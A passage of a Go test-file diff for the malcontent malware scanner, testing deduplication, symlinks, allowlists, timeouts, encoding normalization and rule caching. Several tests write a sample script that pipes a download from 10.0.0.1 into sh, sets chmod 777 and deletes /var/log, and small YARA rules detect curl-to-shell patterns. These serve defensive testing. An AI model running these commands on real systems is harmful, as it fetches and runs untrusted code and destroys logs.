+		t.Error("scan with an unsupported hash algorithm succeeded, want error")
+	}
+}
+
+func BenchmarkScanHashAlgo(b *testing.B) {
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		b.Fatalf("rules: %v", err)
+	}
+
+	root := b.TempDir()
+	writeManyFiles(b, root, 5000)
+
+	for _, algo := range []string{"sha256", "xxh3"} {
+		b.Run(algo, func(b *testing.B) {
+			c := malcontent.Config{
+				Concurrency: runtime.NumCPU(),
+				HashAlgo:    algo,
+				Rules:       yrs,
+				ScanPaths:   []string{root},
+			}
+			for b.Loop() {
+				if _, err := Scan(ctx, c); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+func TestScanDedupByHash(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n")
+	names := []string{"a/vendored.sh", "b/vendored.sh", "c/copy.sh"}
+	for _, name := range names {
+		p := filepath.Join(root, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, script, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	var mu sync.Mutex
+	scanned := map[string]bool{}
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: 3,
+		DedupByHash: true,
+		OnMatch: func(_, path string, _ []string) {
+			mu.Lock()
+			defer mu.Unlock()
+			scanned[path] = true
+		},
+		Rules:     yrs,
+		ScanPaths: []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	if len(scanned) != 1 {
+		t.Errorf("scanned %v, want a single copy scanned", slices.Sorted(maps.Keys(scanned)))
+	}
+
+	var original *malcontent.FileReport
+	var duplicates []*malcontent.FileReport
+	for _, name := range names {
+		v, ok := res.Files.Load(filepath.Join(root, name))
+		if !ok {
+			t.Fatalf("%s was not reported", name)
+		}
+		fr, ok := v.(*malcontent.FileReport)
+		if !ok || len(fr.Behaviors) == 0 {
+			t.Fatalf("%s has no behaviors: %+v", name, v)
+		}
+		if fr.Path != filepath.Join(root, name) {
+			t.Errorf("%s reported with path %s", name, fr.Path)
+		}
+		if fr.DuplicateOf == "" {
+			original = fr
+			continue
+		}
+		duplicates = append(duplicates, fr)
+	}
+
+	if original == nil || len(duplicates) != 2 {
+		t.Fatalf("got %d duplicates of %v, want 2 duplicates of one scanned file", len(duplicates), original)
+	}
+	for _, fr := range duplicates {
+		if fr.DuplicateOf != original.Path {
+			t.Errorf("%s is a duplicate of %s, want %s", fr.Path, fr.DuplicateOf, original.Path)
+		}
+		if fr.SHA256 != original.SHA256 || fr.RiskScore != original.RiskScore || len(fr.Behaviors) != len(original.Behaviors) {
+			t.Errorf("%s report differs from %s: %+v", fr.Path, original.Path, fr)
+		}
+		// Duplicates must not share mutable state with the scanned report
+		if &fr.Behaviors[0] == &original.Behaviors[0] || fr.Behaviors[0] == original.Behaviors[0] {
+			t.Errorf("%s shares behaviors with %s", fr.Path, original.Path)
+		}
+	}
+}
+
+func TestScanGroupByNamespace(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	path := filepath.Join(root, "payload.sh")
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	if err := os.WriteFile(path, []byte(script), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	c := malcontent.Config{
+		Concurrency:      1,
+		GroupByNamespace: true,
+		Rules:            yrs,
+		ScanPaths:        []string{root},
+	}
+	res, err := Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	var buf bytes.Buffer
+	if err := render.NewJSON(&buf).Full(ctx, &c, res); err != nil {
+		t.Fatalf("render: %v", err)
+	}
+	var jr render.Report
+	if err := json.Unmarshal(buf.Bytes(), &jr); err != nil {
+		t.Fatalf("unmarshal: %v", err)
+	}
+	fr := jr.Files[path]
+	if fr == nil || len(fr.BehaviorGroups) == 0 || len(fr.Behaviors) != 0 {
+		t.Fatalf("rendered %+v, want behaviors grouped by namespace only", fr)
+	}
+
+	v, _ := res.Files.Load(path)
+	flat, ok := v.(*malcontent.FileReport)
+	if !ok || len(flat.Behaviors) == 0 {
+		t.Fatalf("rendering removed the flat behaviors from the report: %+v", v)
+	}
+	grouped := 0
+	for ns, bs := range fr.BehaviorGroups {
+		for _, b := range bs {
+			if !strings.HasPrefix(b.ID, ns+"/") {
+				t.Errorf("behavior %s grouped under %s", b.ID, ns)
+			}
+		}
+		grouped += len(bs)
+	}
+	if grouped != len(flat.Behaviors) {
+		t.Errorf("grouped %d behaviors, want %d", grouped, len(flat.Behaviors))
+	}
+}
+
+func TestScanQuiet(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "notes.txt"), []byte("plain text notes, nothing to run here\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, quiet := range []bool{false, true} {
+		var buf bytes.Buffer
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency: 1,
+			Quiet:       quiet,
+			Renderer:    render.NewTerminal(&buf),
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		if _, ok := res.Files.Load(filepath.Join(root, "notes.txt")); !ok {
+			t.Errorf("quiet=%v: notes.txt missing from the report", quiet)
+		}
+		if got := buf.String(); (got == "") != quiet {
+			t.Errorf("quiet=%v: rendered %q", quiet, got)
+		}
+	}
+
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	if err := os.WriteFile(filepath.Join(root, "payload.sh"), []byte(script), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	c := malcontent.Config{Concurrency: 1, Quiet: true, Renderer: render.NewTerminal(&buf), Rules: yrs, ScanPaths: []string{root}}
+	res, err := Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if !strings.Contains(buf.String(), "payload.sh") || strings.Contains(buf.String(), "notes.txt") {
+		t.Errorf("quiet scan rendered %q, want only payload.sh", buf.String())
+	}
+	if got := ExitCode(c, res); got != 1 {
+		t.Errorf("ExitCode() = %d, want 1", got)
+	}
+}
+
+func TestScanJUnitCleanFiles(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, "notes.txt"), []byte("plain text notes, nothing to run here\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	// Clean files are dropped below MinFileRisk, except for JUnit, which reports them as passing testcases
+	for _, format := range []string{"json", "junit"} {
+		var buf bytes.Buffer
+		rr, err := render.New(format, &buf)
+		if err != nil {
+			t.Fatalf("render: %v", err)
+		}
+		c := malcontent.Config{
+			Concurrency: 1,
+			MinFileRisk: malcontent.RiskLow,
+			Renderer:    rr,
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		}
+		res, err := Scan(ctx, c)
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		_, kept := res.Files.Load(filepath.Join(root, "notes.txt"))
+		if want := format == "junit"; kept != want {
+			t.Errorf("%s: notes.txt kept = %v, want %v", format, kept, want)
+		}
+		if got := ExitCode(c, res); got != 0 {
+			t.Errorf("%s: ExitCode() = %d, want 0", format, got)
+		}
+	}
+}
+
+func TestScanFollowSymlinks(t *testing.T) {
+	t.Parallel()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	for _, dir := range []string{"a", "b"} {
+		if err := os.Mkdir(filepath.Join(root, dir), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(root, "a", "payload.sh"), []byte(script), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	links := map[string]string{
+		// Cycles back to the root, and between two sibling directories
+		"a/root":  root,
+		"a/to-b":  filepath.Join(root, "b"),
+		"b/to-a":  filepath.Join(root, "a"),
+		"link.sh": filepath.Join(root, "a", "payload.sh"),
+		"broken":  filepath.Join(root, "missing"),
+	}
+	for name, target := range links {
+		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency:    2,
+		FollowSymlinks: true,
+		Rules:          yrs,
+		ScanPaths:      []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	reports := map[string]*malcontent.FileReport{}
+	res.Files.Range(func(key, value any) bool {
+		fr, ok := value.(*malcontent.FileReport)
+		if k, isString := key.(string); ok && isString {
+			reports[k] = fr
+		}
+		return true
+	})
+	// Each directory is walked once: b through a/to-b, and a again only through b/to-a on the way
+	want := []string{"a/payload.sh", "a/to-b/to-a/payload.sh", "broken", "link.sh"}
+	var got []string
+	for path := range reports {
+		rel, _ := filepath.Rel(root, path)
+		got = append(got, filepath.ToSlash(rel))
+	}
+	slices.Sort(got)
+	if !slices.Equal(got, want) {
+		t.Errorf("reported %v, want %v", got, want)
+	}
+
+	target := filepath.Join(root, "a", "payload.sh")
+	if fr := reports[filepath.Join(root, "link.sh")]; fr == nil || fr.SymlinkTarget != target || len(fr.Behaviors) == 0 {
+		t.Errorf("link.sh = %+v, want behaviors and SymlinkTarget %s", fr, target)
+	}
+	if fr := reports[filepath.Join(root, "a", "to-b", "to-a", "payload.sh")]; fr == nil || fr.SymlinkTarget != target {
+		t.Errorf("a/to-b/to-a/payload.sh = %+v, want SymlinkTarget %s", fr, target)
+	}
+	if fr := reports[target]; fr == nil || fr.SymlinkTarget != "" {
+		t.Errorf("a/payload.sh = %+v, want no SymlinkTarget", fr)
+	}
+	if fr := reports[filepath.Join(root, "broken")]; fr == nil || fr.Skipped != "broken symlink" {
+		t.Errorf("broken = %+v, want it skipped as a broken symlink", fr)
+	}
+}
+
+// literalRules are small literal-only rules, quick to compile.
+var literalRules = fstest.MapFS{
+	"test/fetch.yara": {Data: []byte(`rule curl_pipe : high {
+	meta:
+		description = "pipes a download into a shell"
+	strings:
+		$curl = "curl" fullword
+		$sh   = "| sh"
+	condition:
+		all of them
+}
+
+rule chmod_world : medium {
+	meta:
+		description = "makes files world-writable"
+	strings:
+		$a = "chmod 777"
+		$b = "chmod a+rwx" nocase
+	condition:
+		any of them
+}
+`)},
+}
+
+func TestScanRulesBySelection(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	rfs := []fs.FS{fstest.MapFS{
+		"a/a.yara": {Data: []byte(`rule a { strings: $a = "curl" condition: $a }`)},
+		"b/b.yara": {Data: []byte(`rule b { strings: $b = "wget" condition: $b }`)},
+	}}
+
+	rulesFor := func(filter ...string) *yarax.Rules {
+		t.Helper()
+		yrs, err := scanRules(ctx, malcontent.Config{RuleFS: rfs, RuleFilter: filter}, rfs)
+		if err != nil {
+			t.Fatalf("scanRules(%v): %v", filter, err)
+		}
+		return yrs
+	}
+
+	all, onlyA, onlyB := rulesFor(), rulesFor("a"), rulesFor("b")
+	if all == onlyA || all == onlyB || onlyA == onlyB {
+		t.Error("scans selecting different rules share compiled rules")
+	}
+	if again := rulesFor("a"); again != onlyA {
+		t.Error("scans selecting the same rules compiled them again")
+	}
+	for _, tt := range []struct {
+		name string
+		yrs  *yarax.Rules
+		want int
+	}{{"all", all, 2}, {"a", onlyA, 1}, {"b", onlyB, 1}} {
+		if got := RulesetInfo(tt.yrs).Rules; got != tt.want {
+			t.Errorf("%s: %d rules, want %d", tt.name, got, tt.want)
+		}
+	}
+	if scannersFor(malcontent.Config{}, onlyA) == scannersFor(malcontent.Config{}, onlyB) {
+		t.Error("rulesets share a scanner pool")
+	}
+}
+
+func TestScanAllowHashes(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n")
+	path := filepath.Join(root, "payload.sh")
+	if err := os.WriteFile(path, script, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(script)
+	allow := filepath.Join(t.TempDir(), "allow.txt")
+	if err := os.WriteFile(allow, []byte("# vetted\n"+hex.EncodeToString(sum[:])+" # payload.sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		AllowHashesFile: allow,
+		Concurrency:     1,
+		Rules:           yrs,
+		ScanPaths:       []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	v, ok := res.Files.Load(path)
+	if !ok {
+		t.Fatal("payload.sh missing from the report")
+	}
+	fr, ok := v.(*malcontent.FileReport)
+	if !ok || fr.Skipped != "allowlisted" || len(fr.Behaviors) != 0 {
+		t.Errorf("report = %+v, want payload.sh skipped as allowlisted without behaviors", fr)
+	}
+}
+
+func TestScanPerFileTimeout(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := compile.Recursive(ctx, []fs.FS{fstest.MapFS{
+		"test/slow.yara": {Data: []byte(`rule slow : high {
+	condition:
+		for all i in (0..100000000) : (
+			for all j in (0..100000000) : ( i + j >= 0 )
+		)
+}
+`)},
+	}})
+	if err != nil {
+		t.Fatalf("compile: %v", err)
+	}
+
+	root := t.TempDir()
+	path := filepath.Join(root, "slow.sh")
+	if err := os.WriteFile(path, []byte("#!/bin/sh\necho slow\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	start := time.Now()
+	res, err := Scan(ctx, malcontent.Config{
+		CacheDir:       t.TempDir(),
+		Concurrency:    2,
+		PerFileTimeout: time.Second,
+		Rules:          yrs,
+		ScanPaths:      []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > 30*time.Second {
+		t.Errorf("scan took %s despite a 1s timeout", elapsed)
+	}
+	v, ok := res.Files.Load(path)
+	if !ok {
+		t.Fatal("slow.sh missing from the report")
+	}
+	if fr, ok := v.(*malcontent.FileReport); !ok || fr.Skipped != scanTimeout || len(fr.Behaviors) != 0 {
+		t.Errorf("report = %+v, want slow.sh skipped with %q", fr, scanTimeout)
+	}
+}
+
+func TestScanRelativeTo(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	if err := os.Mkdir(filepath.Join(root, "sub"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n")
+	if err := os.WriteFile(filepath.Join(root, "sub", "payload.sh"), script, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	writeZip(t, filepath.Join(root, "sub", "bundle.zip"), map[string][]byte{"inner/payload.sh": script})
+
+	paths := func(relativeTo string) []string {
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency: 1,
+			RelativeTo:  relativeTo,
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		var got []string
+		res.Files.Range(func(_, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				got = append(got, fr.Path)
+			}
+			return true
+		})
+		slices.Sort(got)
+		return got
+	}
+
+	absolute := []string{
+		filepath.Join(root, "sub", "bundle.zip") + " ∴ /inner/payload.sh",
+		filepath.Join(root, "sub", "payload.sh"),
+	}
+	if got := paths(""); !reflect.DeepEqual(got, absolute) {
+		t.Errorf("paths without RelativeTo = %q, want %q", got, absolute)
+	}
+
+	relative := []string{
+		filepath.Join("sub", "bundle.zip") + " ∴ /inner/payload.sh",
+		filepath.Join("sub", "payload.sh"),
+	}
+	if got := paths(root); !reflect.DeepEqual(got, relative) {
+		t.Errorf("paths with RelativeTo = %q, want %q", got, relative)
+	}
+}
+
+func TestScanDeterministic(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	writeManyFiles(t, root, 200)
+	// Copies of the same content are reported as duplicates of whichever is scanned first
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n")
+	for _, name := range []string{"copy1.sh", "copy2.sh", "copy3.sh"} {
+		if err := os.WriteFile(filepath.Join(root, name), script, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	scan := func() string {
+		t.Helper()
+		var buf bytes.Buffer
+		c := malcontent.Config{
+			Concurrency:   8,
+			DedupByHash:   true,
+			Deterministic: true,
+			NoCache:       true,
+			Renderer:      render.NewNDJSON(&buf),
+			Rules:         yrs,
+			ScanPaths:     []string{root},
+		}
+		res, err := Scan(ctx, c)
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		if err := render.NewJSON(&buf).Full(ctx, &c, res); err != nil {
+			t.Fatalf("render: %v", err)
+		}
+		return buf.String()
+	}
+
+	want := scan()
+	for range 3 {
+		if got := scan(); got != want {
+			t.Fatalf("deterministic scans differ:\nfirst:\n%s\nlater:\n%s", want, got)
+		}
+	}
+}
+
+// cancelRenderer cancels the scan once it has rendered a file.
+type cancelRenderer struct {
+	cancel context.CancelFunc
+}
+
+func (r cancelRenderer) Name() string                     { return "Cancel" }
+func (r cancelRenderer) Scanning(context.Context, string) {}
+func (r cancelRenderer) Full(context.Context, *malcontent.Config, *malcontent.Report) error {
+	return nil
+}
+
+func (r cancelRenderer) File(context.Context, *malcontent.FileReport) error {
+	r.cancel()
+	return nil
+}
+
+func TestScanInterrupted(t *testing.T) {
+	t.Parallel()
+
+	yrs, err := CachedRules(context.Background(), []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	writeManyFiles(t, root, 500)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: 2,
+		MinFileRisk: malcontent.RiskIgnore,
+		Renderer:    cancelRenderer{cancel: cancel},
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	})
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("scan error = %v, want context.Canceled", err)
+	}
+	if res == nil || !res.Interrupted {
+		t.Fatalf("report = %+v, want an interrupted report", res)
+	}
+	n := res.FileCount()
+	if n == 0 || n >= 500 {
+		t.Errorf("interrupted report has %d files, want some but not all of them", n)
+	}
+	res.Files.Range(func(key, value any) bool {
+		if fr, ok := value.(*malcontent.FileReport); !ok || fr.Path == "" {
+			t.Errorf("%v has an empty report", key)
+		}
+		return true
+	})
+
+	var buf bytes.Buffer
+	if err := render.NewJSON(&buf).Full(ctx, &malcontent.Config{}, res); err != nil {
+		t.Fatalf("render: %v", err)
+	}
+	var got struct {
+		Files       map[string]any
+		Interrupted bool
+	}
+	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
+		t.Fatalf("unmarshal: %v", err)
+	}
+	if !got.Interrupted || len(got.Files) != n {
+		t.Errorf("rendered %d files, interrupted %v; want %d files, interrupted", len(got.Files), got.Interrupted, n)
+	}
+}
+
+// utf16LE returns s encoded as UTF-16LE with a byte order mark, as Windows tools save text.
+func utf16LE(t *testing.T, s string) []byte {
+	t.Helper()
+	b, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().Bytes([]byte(s))
+	if err != nil {
+		t.Fatalf("encode: %v", err)
+	}
+	return b
+}
+
+func TestNormalizeEncoding(t *testing.T) {
+	tests := []struct {
+		name         string
+		fc           []byte
+		want         string
+		wantEncoding string
+	}{
+		{name: "utf-8", fc: []byte("echo héllo\n"), want: "echo héllo\n"},
+		{name: "utf-16le", fc: utf16LE(t, "echo héllo\n"), want: "echo héllo\n", wantEncoding: "utf-16le"},
+		{name: "windows-1252", fc: []byte("echo h\xe9llo\n"), want: "echo héllo\n", wantEncoding: "windows-1252"},
+		{name: "binary", fc: []byte("\x7fELF\x02\x01\x01\x00\xff\xfe"), want: "\x7fELF\x02\x01\x01\x00\xff\xfe"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, encoding := normalizeEncoding(tt.fc)
+			if string(got) != tt.want || encoding != tt.wantEncoding {
+				t.Errorf("normalizeEncoding() = %q, %q, want %q, %q", got, encoding, tt.want, tt.wantEncoding)
+			}
+		})
+	}
+}
+
+func TestScanNormalizeEncoding(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	fc := utf16LE(t, "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n")
+	p := filepath.Join(t.TempDir(), "payload.sh")
+	if err := os.WriteFile(p, fc, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	scan := func(normalize bool) *malcontent.FileReport {
+		t.Helper()
+		res, err := Scan(ctx, malcontent.Config{Concurrency: 1, NormalizeEncoding: normalize, Rules: yrs, ScanPaths: []string{p}})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		v, ok := res.Files.Load(p)
+		if !ok {
+			t.Fatalf("scan did not report %s", p)
+		}
+		fr, ok := v.(*malcontent.FileReport)
+		if !ok {
+			t.Fatalf("unexpected report: %+v", v)
+		}
+		return fr
+	}
+
+	if fr := scan(false); len(fr.Behaviors) != 0 {
+		t.Errorf("UTF-16 script matched without normalization: %+v", fr.Behaviors)
+	}
+
+	fr := scan(true)
+	if len(fr.Behaviors) == 0 {
+		t.Fatalf("UTF-16 script has no behaviors after normalization: %+v", fr)
+	}
+	if got := fr.Meta[encodingMeta]; got != "utf-16le" {
+		t.Errorf("encoding = %q, want utf-16le", got)
+	}
+	sum := sha256.Sum256(fc)
+	if fr.SHA256 != hex.EncodeToString(sum[:]) || fr.Size != int64(len(fc)) {
+		t.Errorf("SHA256 = %s, Size = %d, want the original file's", fr.SHA256, fr.Size)
+	}
+}
+
+func TestScanMaxInFlightBytes(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	const limit = 16 * 1024
+	root := t.TempDir()
+	paths := make([]string, 0, 32)
+	for i := range cap(paths) {
+		// Every eighth file is larger than the limit on its own
+		size := 4 * 1024
+		if i%8 == 0 {
+			size = 3 * limit
+		}
+		script := append([]byte("#!/bin/sh\n"), bytes.Repeat([]byte("echo hello\n"), size/11)...)
+		p := filepath.Join(root, fmt.Sprintf("f%02d.sh", i))
+		if err := os.WriteFile(p, script, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, p)
+	}
+
+	c := malcontent.Config{Concurrency: runtime.NumCPU(), IncludeDataFiles: true, MaxInFlightBytes: limit, Rules: yrs}
+	ctx = withInFlightLimit(ctx, c)
+	l := inFlightLimitFrom(ctx)
+
+	var wg sync.WaitGroup
+	errs := make([]error, len(paths))
+	for i, p := range paths {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			fr, err := scanSinglePath(ctx, c, p, nil, p, "")
+			if err == nil && (fr == nil || fr.Skipped != "") {
+				err = fmt.Errorf("%s not scanned: %+v", p, fr)
+			}
+			errs[i] = err
+		}()
+	}
+	wg.Wait()
+
+	if err := errors.Join(errs...); err != nil {
+		t.Fatal(err)
+	}
+	if l.peak > limit || l.peak == 0 {
+		t.Errorf("peak in-flight bytes = %d, want at most %d", l.peak, limit)
+	}
+	if l.held != 0 {
+		t.Errorf("%d bytes still held after scanning", l.held)
+	}
+}
+
+func TestInFlightLimitCanceled(t *testing.T) {
+	t.Parallel()
+	l := inFlightLimitFrom(withInFlightLimit(context.Background(), malcontent.Config{MaxInFlightBytes: 10}))
+
+	release, err := l.acquire(context.Background(), 8)
+	if err != nil {
+		t.Fatalf("acquire: %v", err)
+	}
+
+	// A worker waiting for memory gives up when the scan is canceled
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Millisecond)
+	defer cancel()
+	if _, err := l.acquire(ctx, 4); !errors.Is(err, context.DeadlineExceeded) {
+		t.Errorf("acquire beyond the limit = %v, want %v", err, context.DeadlineExceeded)
+	}
+
+	release()
+	if release, err := l.acquire(context.Background(), 10); err != nil {
+		t.Errorf("acquire after release: %v", err)
+	} else {
+		release()
+	}
+
+	var unlimited *inFlightLimit
+	if _, err := unlimited.acquire(context.Background(), 1<<40); err != nil {
+		t.Errorf("acquire without a limit: %v", err)
+	}
+}
+
+func TestRuleCacheFile(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	cacheFile := filepath.Join(t.TempDir(), "cache", "rules.bin")
+
+	header := func() string {
+		t.Helper()
+		bs, err := os.ReadFile(cacheFile)
+		if err != nil {
+			t.Fatalf("read cache: %v", err)
+		}
+		line, _, _ := strings.Cut(string(bs), "\n")
+		return line + "\n"
+	}
+
+	key, err := ruleCacheKey([]fs.FS{literalRules})
+	if err != nil {
+		t.Fatalf("ruleCacheKey: %v", err)
+	}
+
+	// The first run compiles the rules and writes them out
+	if yrs, _, err := loadOrCompileRules(ctx, []fs.FS{literalRules}, cacheFile); err != nil || yrs == nil {
+		t.Fatalf("loadOrCompileRules() = %v, %v", yrs, err)
+	}
+	if got := header(); got != key {
+		t.Fatalf("cache header = %q, want %q", got, key)
+	}
+
+	// Later runs read them back without rewriting the cache
+	if err := os.Chtimes(cacheFile, time.Time{}, time.Unix(1, 0)); err != nil {
+		t.Fatalf("chtimes: %v", err)
+	}
+	if _, _, err := readRuleCache(cacheFile, key); err != nil {
+		t.Fatalf("readRuleCache() = %v", err)
+	}
+	if yrs, _, err := loadOrCompileRules(ctx, []fs.FS{literalRules}, cacheFile); err != nil || yrs == nil {
+		t.Fatalf("loadOrCompileRules() = %v, %v", yrs, err)
+	}
+	if st, err := os.Stat(cacheFile); err != nil || !st.ModTime().Equal(time.Unix(1, 0)) {
+		t.Errorf("cache was rewritten on a hit: %v, %v", st, err)
+	}
+
+	// Changing the rule sources invalidates the cache
+	other := fstest.MapFS{
+		"test/other.yara": {Data: []byte("rule other { strings: $a = \"curl\" condition: $a }")},
+	}
+	otherKey, err := ruleCacheKey([]fs.FS{other})
+	if err != nil {
+		t.Fatalf("ruleCacheKey: %v", err)
+	}
+	if otherKey == key {
+		t.Fatalf("different rules share cache key %q", key)
+	}
+	if _, _, err := readRuleCache(cacheFile, otherKey); err == nil {
+		t.Errorf("readRuleCache() with a mismatched key succeeded")
+	}
+	if _, _, err := loadOrCompileRules(ctx, []fs.FS{other}, cacheFile); err != nil {
+		t.Fatalf("loadOrCompileRules() = %v", err)
+	}
+	if got := header(); got != otherKey {
+		t.Errorf("cache header = %q, want %q", got, otherKey)
+	}
+
+	// A corrupt cache is recompiled and replaced
+	if err := os.WriteFile(cacheFile, []byte(otherKey+"not json\n"), 0o600); err != nil {
+		t.Fatalf("write: %v", err)
+	}
+	if _, _, err := readRuleCache(cacheFile, otherKey); err == nil {
+		t.Errorf("readRuleCache() of a corrupt cache succeeded")
+	}
+	if yrs, _, err := loadOrCompileRules(ctx, []fs.FS{other}, cacheFile); err != nil || yrs == nil {
+		t.Fatalf("loadOrCompileRules() = %v, %v", yrs, err)
+	}
+	if _, _, err := readRuleCache(cacheFile, otherKey); err != nil {
+		t.Errorf("cache was not rewritten after corruption: %v", err)
+	}
+}
+
+func BenchmarkRuleCacheFile(b *testing.B) {
+	ctx := context.Background()
+	fss := []fs.FS{rules.FS, thirdparty.FS}
+
+	b.Run("compile", func(b *testing.B) {
+		for b.Loop() {
+			if _, _, err := loadOrCompileRules(ctx, fss, ""); err != nil {
+				b.Fatal(err)
+			}
+		}
+	})
+
+	b.Run("cached", func(b *testing.B) {
+		cacheFile := filepath.Join(b.TempDir(), "rules.bin")
+		if _, _, err := loadOrCompileRules(ctx, fss, cacheFile); err != nil {
+			b.Fatal(err)
+		}
+		for b.Loop() {
